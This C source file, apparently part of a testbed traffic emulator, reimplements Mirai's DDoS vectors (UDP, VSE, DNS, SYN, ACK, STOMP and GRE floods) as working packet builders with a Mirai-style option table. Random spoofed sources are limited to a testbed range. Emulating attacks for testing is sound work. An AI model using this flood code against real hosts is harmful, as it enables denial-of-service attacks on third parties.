// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * Mirai's vectors (docs/mirai-vectors.md): the descriptors (vec_table, at
 * the end) and the packet builders they name. Our own code; the Mirai
 * source was only read for the spec. The order of the random draws
 * follows Mirai's send loops, so one seed gives one packet sequence.
 *
 * Headers are written through the kernel's structs (struct iphdr, udphdr,
 * tcphdr, ethhdr) and those of botgen.h (GRE, DNS). A random 16- or 32-bit
 * field is the draw as the little-endian bot stores it (htole16/htole32); a
 * fixed option value is in network order.
 */
#include <arpa/inet.h>
#include <endian.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/if_ether.h>
#include <linux/ip.h>
#include <linux/tcp.h>
#include <linux/udp.h>
#include "vectors.h"
#include "tunnel.h"
#include "safety.h"

#define VEC_IP_DF 0x4000

/* splitmix64: spreads (seed, stream) over the 128-bit state */
static uint64_t splitmix(uint64_t *s)
{
	uint64_t z = (*s += 0x9E3779B97F4A7C15ull);

	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
	z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
	return z ^ (z >> 31);
}

void vec_rand_seed(struct vec_rand *r, uint64_t seed, uint64_t stream)
{
	uint64_t s = seed ^ (stream * 0xD1B54A32D192ED03ull), a, b;

	a = splitmix(&s);
	b = splitmix(&s);
	r->x = (uint32_t)a;
	r->y = (uint32_t)(a >> 32);
	r->z = (uint32_t)b;
	r->w = (uint32_t)(b >> 32);
	if (!(r->x | r->y | r->z | r->w))
		r->w = 1;
}

void vec_rand_fill(struct vec_rand *r, uint8_t *p, size_t len)
{
	while (len >= 4) {
		uint32_t v = vec_rand_next(r);

		p[0] = (uint8_t)v;
		p[1] = (uint8_t)(v >> 8);
		p[2] = (uint8_t)(v >> 16);
		p[3] = (uint8_t)(v >> 24);
		p += 4;
		len -= 4;
	}
	if (len) {
		uint32_t v = vec_rand_next(r);

		for (size_t i = 0; i < len; i++)
			p[i] = (uint8_t)(v >> (8 * i));
	}
}

uint32_t vec_target_host(struct vec_rand *r, const struct vec_target *t)
{
	if (t->netmask >= 32)
		return t->addr;
	return htonl(ntohl(t->addr) + (vec_rand_next(r) >> t->netmask));
}

uint32_t vec_testbed_random(struct vec_rand *r)
{
	return htonl(XPRO_TESTBED_NET | (vec_rand_next(r) & ~XPRO_TESTBED_MASK));
}

uint16_t vec_l4_csum(uint32_t saddr, uint32_t daddr, uint8_t proto, const void *l4, size_t len)
{
	uint32_t s = ntohl(saddr), d = ntohl(daddr);
	uint32_t sum = (s >> 16) + (s & 0xffff) + (d >> 16) + (d & 0xffff) + proto + (uint32_t)len;

	return xpro_csum(l4, len, sum);
}


/* ---- fields ------------------------------------------------------------- */

/* A 16-bit option: a draw per packet (65535), stored as the little-endian
 * bot stores it, or the value, in network order. */
static __be16 opt16(uint32_t opt, struct vec_rand *r)
{
	if (opt == VEC_RANDOM16)
		return htole16((uint16_t)vec_rand_next(r));
	return htons((uint16_t)opt);
}

/* Source and destination ports (--sport, --dport), in that order */
static void ports(__be16 *source, __be16 *dest, uint32_t sport, const struct vec_opts *o, struct vec_rand *r)
{
	*source = opt16(sport, r);
	*dest = opt16(o->dport, r);
}

/* The IPv4 header, ID 0 (ip_start() or the caller sets it); the checksum from ip_csum() */
static void ip_hdr(struct iphdr *ip, const struct vec_opts *o, uint16_t tot, uint8_t proto, uint32_t s, uint32_t d)
{
	ip->version = 4;
	ip->ihl = 5;
	ip->tos = o->tos;
	ip->tot_len = htons(tot);
	ip->id = 0;
	ip->frag_off = htons(o->df ? VEC_IP_DF : 0);
	ip->ttl = o->ttl;
	ip->protocol = proto;
	ip->check = 0;
	ip->saddr = s;
	ip->daddr = d;
}

static void ip_csum(struct iphdr *ip)
{
	ip->check = 0;
	ip->check = xpro_csum(ip, sizeof(*ip), 0);
}

/* The IPv4 header and its ID (ip_hdr, then the ID's draw: Mirai's order) */
static void ip_start(struct iphdr *ip, const struct vec_opts *o, uint16_t tot, uint8_t proto, uint32_t s, uint32_t d,
		     struct vec_rand *r)
{
	ip_hdr(ip, o, tot, proto, s, d);
	ip->id = opt16(o->ident, r);
}

static uint32_t source(const struct vec_opts *o, struct vec_flow *f)
{
	switch (o->src_mode) {
	case VEC_SRC_FIXED:
		return o->src_addr;
	case VEC_SRC_RANDOM:
		return vec_testbed_random(&f->rnd);
	}
	return f->local;
}

/* A flood's IPv4 header (the vector's protocol): a host of the target,
 * then the source (--source if the vector takes it, else the bot's), then
 * the ID */
static void ip_flood(struct iphdr *ip, const struct vec_opts *o, struct vec_flow *f, uint16_t tot)
{
	const struct vec_desc *d = vec_desc(o->vec);
	uint32_t dst = vec_target_host(&f->rnd, &f->tgt);
	uint32_t src = d->wire.flags & BOTGEN_V_SOURCE ? source(o, f) : f->local;

	ip_start(ip, o, tot, d->proto, src, dst, &f->rnd);
}

/* The checksum of the L4 header l4 that follows ip, over the rest of ip's packet */
static __sum16 l4_check(const struct iphdr *ip, const void *l4)
{
	return vec_l4_csum(ip->saddr, ip->daddr, ip->protocol, l4, ntohs(ip->tot_len) - sizeof(*ip));
}

/* A UDP header before len - 8 bytes; the checksum from l4_check() */
static void udp_hdr(struct udphdr *udp, uint32_t sport, const struct vec_opts *o, struct vec_rand *r, uint32_t len)
{
	ports(&udp->source, &udp->dest, sport, o, r);
	udp->len = htons((uint16_t)len);
	udp->check = 0;
}

/* Q3: htons(n) of a little-endian bot, stored into a 32-bit field */
static __be32 seq16(uint32_t n)
{
	return htole32(__builtin_bswap16((uint16_t)n));
}

/* The TCP header after the ports and seq/ack: data offset (in words),
 * the flags of the options, the window; checksum and urgent pointer 0 */
static void tcp_rest(struct tcphdr *tcp, const struct vec_opts *o, unsigned doff, uint16_t window)
{
	tcp->res1 = 0;
	tcp->doff = doff & 0xf;
	tcp->fin = !!o->fin;
	tcp->syn = !!o->syn;
	tcp->rst = !!o->rst;
	tcp->psh = !!o->psh;
	tcp->ack = !!o->ack;
	tcp->urg = !!o->urg;
	tcp->ece = 0;
	tcp->cwr = 0;
	tcp->window = htons(window);
	tcp->check = 0;
	tcp->urg_ptr = 0;
}

/* A flood's TCP header: ports, then the sequence and acknowledgement
 * numbers, random per packet or the option's value (Q3); the ack 0 when
 * not random (Q4) */
static void tcp_hdr(struct tcphdr *tcp, const struct vec_opts *o, struct vec_rand *r, unsigned doff, uint16_t window)
{
	ports(&tcp->source, &tcp->dest, o->sport, o, r);
	tcp->seq = o->seqnum == VEC_RANDOM16 ? htole32(vec_rand_next(r)) : seq16(o->seqnum);
	tcp->ack_seq = o->acknum == VEC_RANDOM16 ? htole32(vec_rand_next(r)) : 0;
	tcp_rest(tcp, o, doff, window);
}

/* --len bytes of payload: new random bytes (--rand 1), else fixed (the
 * setup's bytes, or zeros) */
static void payload(void *pl, const struct vec_opts *o, struct vec_flow *f, const uint8_t *fixed)
{
	if (o->rand)
		vec_rand_fill(&f->rnd, pl, o->len);
	else if (fixed)
		memcpy(pl, fixed, o->len);
	else
		memset(pl, 0, o->len);
}

/* ---- at setup, once per flow ------------------------------------------- */

static void setup_syn(const struct vec_opts *o, struct vec_flow *f)
{
	(void)o;
	f->mss = (uint16_t)(1400 + (vec_rand_next(&f->rnd) & 0x0f));
	f->tsval = vec_rand_next(&f->rnd);
}

/* ack, stomp: the window, and the payload sent with --rand 0 */
static void setup_window(const struct vec_opts *o, struct vec_flow *f)
{
	f->window = (uint16_t)vec_rand_next(&f->rnd);
	vec_rand_fill(&f->rnd, f->fixed_payload, o->len < sizeof(f->fixed_payload) ? o->len : sizeof(f->fixed_payload));
}

/* greip, greeth: Mirai's random inner source, once per target; kept
 * inside the testbed here */
static void setup_gre(const struct vec_opts *o, struct vec_flow *f)
{
	(void)o;
	f->inner_src = vec_testbed_random(&f->rnd);
}

/* udpplain, http: the target's host, once */
static void setup_host(const struct vec_opts *o, struct vec_flow *f)
{
	(void)o;
	f->host = vec_target_host(&f->rnd, &f->tgt);
}

/* ---- one packet --------------------------------------------------------- */

static void build_udp(const struct vec_opts *o, struct vec_flow *f, struct iphdr *ip, uint16_t tot)
{
	struct udphdr *udp = (struct udphdr *)(ip + 1);

	ip_flood(ip, o, f, tot);
	udp_hdr(udp, o->sport, o, &f->rnd, sizeof(*udp) + o->len);
	payload(udp + 1, o, f, NULL);
	udp->check = l4_check(ip, udp);
}

static const uint8_t vse_payload[25] = {
	0xff, 0xff, 0xff, 0xff, 'T', 'S', 'o', 'u', 'r', 'c', 'e', ' ', 'E', 'n', 'g', 'i',
	'n', 'e', ' ', 'Q', 'u', 'e', 'r', 'y', 0,
};

static void build_vse(const struct vec_opts *o, struct vec_flow *f, struct iphdr *ip, uint16_t tot)
{
	struct udphdr *udp = (struct udphdr *)(ip + 1);

	ip_flood(ip, o, f, tot);
	udp_hdr(udp, o->sport, o, &f->rnd, sizeof(*udp) + sizeof(vse_payload));
	memcpy(udp + 1, vse_payload, sizeof(vse_payload));
	udp->check = l4_check(ip, udp);
}

static const char dns_alpha[33] = "abcdefghijklmnopqrstuvw012345678";

/* To the resolver, from the bot: a random source port whatever --sport
 * says, the query <len random chars>.<domain> A IN with RD set */
static void build_dns(const struct vec_opts *o, struct vec_flow *f, struct iphdr *ip, uint16_t tot)
{
	struct udphdr *udp = (struct udphdr *)(ip + 1);
	struct vec_dnsh *dns = (struct vec_dnsh *)(udp + 1);
	uint8_t *q = (uint8_t *)(dns + 1), *lbl;
	const char *d = o->domain;
	uint32_t i;

	ip_start(ip, o, tot, IPPROTO_UDP, f->local, f->tgt.addr, &f->rnd);
	udp_hdr(udp, VEC_RANDOM16, o, &f->rnd, tot - sizeof(*ip));
	dns->id = opt16(o->dhid, &f->rnd);
	dns->flags = htons(0x0100); /* RD */
	dns->qdcount = htons(1);
	dns->ancount = dns->nscount = dns->arcount = 0;
	/* <len random chars>: 4 per draw, each from the top 5 bits of a byte;
	 * a tail of len % 4 gets raw 5-bit values (not reachable via the CNC) */
	q[0] = (uint8_t)o->len;
	lbl = q + 1;
	for (i = 0; i + 4 <= o->len; i += 4) {
		uint32_t v = vec_rand_next(&f->rnd);

		for (int k = 0; k < 4; k++)
			lbl[i + k] = (uint8_t)dns_alpha[((v >> (8 * k)) & 0xff) >> 3];
	}
	if (i < o->len) {
		uint32_t v = vec_rand_next(&f->rnd);

		for (int k = 0; i < o->len; i++, k++)
			lbl[i] = (uint8_t)(((v >> (8 * k)) & 0xff) >> 3);
	}
	/* the domain in label encoding: every dot starts a label (a trailing
	 * dot gives an empty label), then the closing zero */
	q = lbl + o->len;
	{
		uint8_t *lenp = q++;
		uint8_t n = 0;

		for (; *d; d++) {
			if (*d == '.') {
				*lenp = n;
				lenp = q++;
				n = 0;
			} else {
				*q++ = (uint8_t)*d;
				n++;
			}
		}
		*lenp = n;
		*q++ = 0;
	}
	q[0] = 0; /* QTYPE A, QCLASS IN */
	q[1] = 1;
	q[2] = 0;
	q[3] = 1;
	udp->check = l4_check(ip, udp);
}

/* Mirai's SYN options: MSS, SACK permitted, timestamps, NOP, window scale 6 */
struct syn_opts {
	uint8_t mss_kind, mss_len;
	__be16 mss;
	uint8_t sack_kind, sack_len;
	uint8_t ts_kind, ts_len;
	__le32 tsval;
	__be32 tsecr;
	uint8_t nop;
	uint8_t ws_kind, ws_len, ws_shift;
} __attribute__((packed));
_Static_assert(sizeof(struct syn_opts) == 20, "Mirai's SYN options are 20 bytes");

static void build_syn(const struct vec_opts *o, struct vec_flow *f, struct iphdr *ip, uint16_t tot)
{
	struct tcphdr *tcp = (struct tcphdr *)(ip + 1);
	struct syn_opts *opt = (struct syn_opts *)(tcp + 1);

	ip_flood(ip, o, f, tot);
	tcp_hdr(tcp, o, &f->rnd, (sizeof(*tcp) + sizeof(*opt)) / 4, 0);
	if (o->urg)
		tcp->urg_ptr = htole16((uint16_t)vec_rand_next(&f->rnd));
	opt->mss_kind = 2;
	opt->mss_len = 4;
	opt->mss = htons(f->mss);
	opt->sack_kind = 4;
	opt->sack_len = 2;
	opt->ts_kind = 8;
	opt->ts_len = 10;
	opt->tsval = htole32(f->tsval);
	opt->tsecr = 0;
	opt->nop = 1;
	opt->ws_kind = 3;
	opt->ws_len = 3;
	opt->ws_shift = 6;
	tcp->check = l4_check(ip, tcp);
}

static void build_ack(const struct vec_opts *o, struct vec_flow *f, struct iphdr *ip, uint16_t tot)
{
	struct tcphdr *tcp = (struct tcphdr *)(ip + 1);

	ip_flood(ip, o, f, tot);
	tcp_hdr(tcp, o, &f->rnd, sizeof(*tcp) / 4, f->window);
	payload(tcp + 1, o, f, f->fixed_payload);
	tcp->check = l4_check(ip, tcp);
}

/* Inside the connection (botconn.c): its addresses and ports; Mirai swaps
 * seq/ack and keeps 16 bits of each (the upper half on a little-endian
 * bot); data offset 8 with a 20-byte header (Q5) */
static void build_stomp(const struct vec_opts *o, struct vec_flow *f, struct iphdr *ip, uint16_t tot)
{
	struct tcphdr *tcp = (struct tcphdr *)(ip + 1);

	ip_start(ip, o, tot, IPPROTO_TCP, f->local, f->host, &f->rnd);
	tcp->source = htons(f->lport);
	tcp->dest = htons(f->rport);
	tcp->seq = seq16(f->srv_seq & 0xffff);
	f->srv_seq++;
	tcp->ack_seq = seq16(f->my_ack & 0xffff);
	tcp_rest(tcp, o, 8, f->window);
	payload(tcp + 1, o, f, f->fixed_payload);
	tcp->check = l4_check(ip, tcp);
}

/* greip: GRE, inner IPv4, UDP; greeth: GRE, Ethernet (random addresses),
 * inner IPv4, UDP */
static void build_gre(const struct vec_opts *o, struct vec_flow *f, struct iphdr *ip, uint16_t tot)
{
	struct vec_greh *gre = (struct vec_greh *)(ip + 1);
	struct iphdr *iip = (struct iphdr *)(gre + 1);
	struct udphdr *udp;
	uint16_t oid;

	ip_flood(ip, o, f, tot);
	gre->flags = 0;
	gre->proto = htons(o->vec == VEC_GREIP ? ETH_P_IP : ETH_P_TEB);
	if (o->vec == VEC_GREETH) {
		struct ethhdr *eth = (struct ethhdr *)(gre + 1);
		uint32_t m[3];

		for (int k = 0; k < 3; k++) /* destination and source: 3 draws */
			m[k] = htole32(vec_rand_next(&f->rnd));
		memcpy(eth->h_dest, m, 2 * ETH_ALEN);
		eth->h_proto = htons(ETH_P_IP);
		iip = (struct iphdr *)(eth + 1);
	}
	ip_hdr(iip, o, (uint16_t)(sizeof(*iip) + sizeof(*udp) + o->len), IPPROTO_UDP, f->inner_src,
	       o->gcip ? ip->daddr : vec_testbed_random(&f->rnd));
	/* ~(outer id - 1000) on the little-endian view of the field */
	oid = le16toh(ip->id);
	if (o->ident == VEC_RANDOM16)
		oid = (uint16_t)~(uint16_t)(oid - 1000);
	else
		oid = (uint16_t)~oid;
	iip->id = htole16(oid);
	udp = (struct udphdr *)(iip + 1);
	udp_hdr(udp, o->sport, o, &f->rnd, sizeof(*udp) + o->len);
	payload(udp + 1, o, f, NULL);
	udp->check = l4_check(iip, udp);
	ip_csum(iip);
}

/* ---- the vectors -------------------------------------------------------- */

#define O(x) VEC_OPT(VEC_O_##x)
#define O_IP (O(TOS) | O(IDENT) | O(TTL) | O(DF))
#define O_TCP (O(URG) | O(ACK) | O(PSH) | O(RST) | O(SYN) | O(FIN))
#define R16 VEC_RANDOM16
/* greip and greeth: the same but for greeth's inner Ethernet header */
#define GRE(name_, id_, eth_) {								\
	.name = name_, .id = id_, .proto = IPPROTO_GRE, .raw = 1,				\
	.opts = O(LEN) | O(RAND) | O_IP | O(SPORT) | O(DPORT) | O(GCIP) | O(SOURCE),		\
	.len_max = 65535, .len = 512, .dport = R16, .df = 1,					\
	.l4_len = sizeof(struct udphdr),							\
	.wire = { BOTGEN_V_FAST | BOTGEN_V_SOURCE | BOTGEN_V_PAYLOAD | (eth_), IPPROTO_UDP,	\
		  sizeof(struct vec_greh) + ((eth_) ? sizeof(struct ethhdr) : 0) },		\
	.setup = setup_gre, .build = build_gre,							\
}

/* What Mirai's CNC (or, where docs/mirai-vectors.md says so, the bot)
 * accepts per vector, its defaults, the packet's shape and what varies in
 * it per packet; indexed by Mirai's ID. */
static const struct vec_desc vec_table[VEC_MAX + 1] = {
	[VEC_UDP] = {
		.name = "udp", .id = VEC_UDP, .proto = IPPROTO_UDP, .raw = 1,
		.opts = O_IP | O(LEN) | O(RAND) | O(SPORT) | O(DPORT) | O(SOURCE),
		.len_max = 65535, .len_cap = 1460, .len = 512, .dport = R16,
		.l4_len = sizeof(struct udphdr),
		.wire = { BOTGEN_V_FAST | BOTGEN_V_SOURCE | BOTGEN_V_PAYLOAD, IPPROTO_UDP, 0 },
		.build = build_udp,
	},
	[VEC_VSE] = {
		.name = "vse", .id = VEC_VSE, .proto = IPPROTO_UDP, .raw = 1,
		.opts = O_IP | O(SPORT) | O(DPORT),
		.len_max = 65535, .dport = 27015,
		.l4_len = sizeof(struct udphdr), .fixed = sizeof(vse_payload),
		.wire = { BOTGEN_V_FAST, IPPROTO_UDP, 0 },
		.build = build_vse,
	},
	[VEC_DNS] = {
		.name = "dns", .id = VEC_DNS, .proto = IPPROTO_UDP, .raw = 1,
		.opts = O_IP | O(SPORT) | O(DPORT) | O(DOMAIN) | O(DHID) | O(LEN), .needs = O(DOMAIN),
		.len_max = 255, .len = 12, .dport = 53,
		/* the DNS header, the label's length, QTYPE and QCLASS */
		.l4_len = sizeof(struct udphdr), .fixed = sizeof(struct vec_dnsh) + 1 + 4,
		.wire = { BOTGEN_V_FAST | BOTGEN_V_RESOLVER | BOTGEN_V_SPORT | BOTGEN_V_DNS, IPPROTO_UDP, 0 },
		.build = build_dns,
	},
	[VEC_SYN] = {
		.name = "syn", .id = VEC_SYN, .proto = IPPROTO_TCP, .raw = 1,
		.opts = O_IP | O(SPORT) | O(DPORT) | O_TCP | O(SEQNUM) | O(ACKNUM) | O(SOURCE),
		.len_max = 65535, .dport = R16, .df = 1, .tcp = VEC_TCP_SYN,
		.l4_len = sizeof(struct tcphdr) + sizeof(struct syn_opts),
		.wire = { BOTGEN_V_FAST | BOTGEN_V_SOURCE | BOTGEN_V_SEQACK | BOTGEN_V_URG, IPPROTO_TCP, 0 },
		.setup = setup_syn, .build = build_syn,
	},
	[VEC_ACK] = {
		.name = "ack", .id = VEC_ACK, .proto = IPPROTO_TCP, .raw = 1,
		.opts = O(LEN) | O(RAND) | O_IP | O(SPORT) | O(DPORT) | O_TCP | O(SEQNUM) | O(ACKNUM) | O(SOURCE),
		.len_max = 65535, .len = 512, .dport = R16, .acknum = R16, .tcp = VEC_TCP_ACK,
		.l4_len = sizeof(struct tcphdr),
		.wire = { BOTGEN_V_FAST | BOTGEN_V_SOURCE | BOTGEN_V_SEQACK | BOTGEN_V_PAYLOAD, IPPROTO_TCP, 0 },
		.setup = setup_window, .build = build_ack,
	},
	[VEC_STOMP] = {
		.name = "stomp", .id = VEC_STOMP, .proto = IPPROTO_TCP,
		.opts = O(LEN) | O(RAND) | O_IP | O(DPORT) | O_TCP,
		.len_max = 65535, .len = 768, .dport = R16, .df = 1, .tcp = VEC_TCP_ACK | VEC_TCP_PSH,
		.l4_len = sizeof(struct tcphdr),
		.wire = { 0, IPPROTO_TCP, 0 },
		.setup = setup_window, .build = build_stomp,
	},
	[VEC_GREIP] = GRE("greip", VEC_GREIP, 0),
	[VEC_GREETH] = GRE("greeth", VEC_GREETH, BOTGEN_V_ETH),
	[VEC_UDPPLAIN] = { /* kernel sockets: traffic/bot/botconn.c */
		.name = "udpplain", .id = VEC_UDPPLAIN, .proto = IPPROTO_UDP,
		.opts = O(LEN) | O(RAND) | O(DPORT) | O(SPORT),
		.len_max = 65535, .len = 512, .dport = R16,
		.l4_len = sizeof(struct udphdr),
		.wire = { 0, IPPROTO_UDP, 0 },
		.setup = setup_host,
	},
	[VEC_HTTP] = { /* kernel sockets: traffic/bot/botconn.c */
		.name = "http", .id = VEC_HTTP, .proto = IPPROTO_TCP,
		.opts = O(DOMAIN) | O(DPORT) | O(METHOD) | O(POSTDATA) | O(PATH) | O(CONNS), .needs = O(DOMAIN),
		.len_max = 65535, .dport = 80,
		.wire = { 0, IPPROTO_TCP, 0 },
		.setup = setup_host,
	},
};

const struct vec_desc *vec_desc(int vec)
{
	if (vec < 0 || vec > VEC_MAX || !vec_table[vec].name)
		return NULL;
	return &vec_table[vec];
}

const char *vec_name(int vec)
{
	const struct vec_desc *d = vec_desc(vec);

	return d ? d->name : "?";
}

int vec_parse(const char *name)
{
	char *e;
	long id;

	for (int i = 0; i <= VEC_MAX; i++)
		if (vec_table[i].name && !strcmp(vec_table[i].name, name))
			return vec_table[i].id;
	id = strtol(name, &e, 10); /* Mirai's ID */
	if (*e || !vec_desc((int)id) || id != (int)id)
		return VEC_NONE;
	return (int)id;
}

const char *vec_names(void)
{
	static char buf[128];

	if (!buf[0])
		for (int i = 0; i <= VEC_MAX; i++)
			if (vec_table[i].name)
				snprintf(buf + strlen(buf), sizeof(buf) - strlen(buf), "%s%s", buf[0] ? " " : "",
					 vec_table[i].name);
	return buf;
}

int vec_is_raw(int vec)
{
	const struct vec_desc *d = vec_desc(vec);

	return d && d->raw;
}

void vec_defaults(struct vec_opts *o, int vec)
{
	const struct vec_desc *d = vec_desc(vec);

	memset(o, 0, sizeof(*o));
	o->vec = vec;
	o->ident = VEC_RANDOM16;
	o->ttl = 64;
	o->sport = VEC_RANDOM16;
	o->dport = VEC_RANDOM16;
	o->dhid = VEC_RANDOM16;
	o->seqnum = VEC_RANDOM16;
	o->rand = 1;
	o->conns = 1;
	strcpy(o->method, "GET");
	strcpy(o->path, "/");
	if (!d)
		return;
	o->len = d->len;
	o->dport = d->dport;
	o->acknum = d->acknum;
	o->df = d->df;
	o->urg = !!(d->tcp & VEC_TCP_URG);
	o->ack = !!(d->tcp & VEC_TCP_ACK);
	o->psh = !!(d->tcp & VEC_TCP_PSH);
	o->rst = !!(d->tcp & VEC_TCP_RST);
	o->syn = !!(d->tcp & VEC_TCP_SYN);
	o->fin = !!(d->tcp & VEC_TCP_FIN);
}

uint32_t vec_ip_len(const struct vec_opts *o)
{
	const struct vec_desc *d = vec_desc(o->vec);
	uint32_t n;

	if (!d || !d->l4_len)
		return 0;
	n = sizeof(struct iphdr) + d->l4_len + d->fixed;
	if (d->wire.inner)
		n += d->wire.inner + sizeof(struct iphdr);
	if (d->opts & O(LEN))
		n += o->len;
	if (d->opts & O(DOMAIN)) /* a length byte per label, the closing zero */
		n += (uint32_t)strlen(o->domain) + 2;
	return n;
}

void vec_flow_init(const struct vec_opts *o, struct vec_flow *f, uint32_t local,
		   const struct vec_target *t, uint64_t seed, uint64_t stream)
{
	const struct vec_desc *d = vec_desc(o->vec);

	memset(f, 0, sizeof(*f));
	f->local = local;
	f->tgt = *t;
	vec_rand_seed(&f->rnd, seed, stream);
	if (d && d->setup)
		d->setup(o, f);
}

int vec_next(const struct vec_opts *o, struct vec_flow *f, uint8_t *buf, size_t cap)
{
	const struct vec_desc *d = vec_desc(o->vec);
	uint32_t tot = vec_ip_len(o);
	struct iphdr *ip = (struct iphdr *)buf;

	if (!tot || tot > cap || tot > 0xffff)
		return -EMSGSIZE;
	if (!d->build)
		return -EINVAL;
	d->build(o, f, ip, (uint16_t)tot);
	ip_csum(ip);
	return (int)tot;
}
